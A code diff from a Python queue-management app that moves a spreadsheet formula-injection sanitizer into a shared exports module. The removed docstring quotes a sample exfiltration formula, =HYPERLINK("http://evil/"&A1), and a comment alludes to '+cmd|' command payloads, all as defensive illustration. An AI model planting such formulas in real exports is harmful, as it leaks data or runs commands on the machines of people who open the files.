@@ -10,27 +10,12 @@ from typing import Any
 import sqlalchemy as sa
 from sqlalchemy.orm import aliased
 
+from queue_app.core.exports import spreadsheet_text
 from queue_app.core.extensions import db
 from queue_app.core.models import Agency, Counter, Service
 from queue_app.core.site import current_site
 from queue_app.queue.models import Ticket, TicketState
 from queue_app.staff.models import User
-
-#: what makes Excel or LibreOffice read a cell as a formula (``=HYPERLINK(...)``, ``+cmd|...``, ``@SUM``)
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-
-
-def spreadsheet_text(value: Any) -> Any:
-    """``value`` safe to put in a CSV or XLSX cell: text that a spreadsheet would run gets a leading quote.
-
-    Names typed by staff (a clerk's full name, a kiosk code, a closing reason) end up in exports that an
-    office opens in a spreadsheet; ``=HYPERLINK("http://evil/"&A1)`` there would run as a formula.
-    The quote is what spreadsheets themselves use to mean "this is text"; numbers are left alone.
-    """
-    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
-        return "'" + value
-    return value
-
 
 EXPORT_COLUMNS = ("number", "service_day", "issued_service", "service", "agency", "status", "priority", "kiosk",
                   "issued_at", "called_at", "started_at", "finished_at", "wait_seconds", "service_seconds",
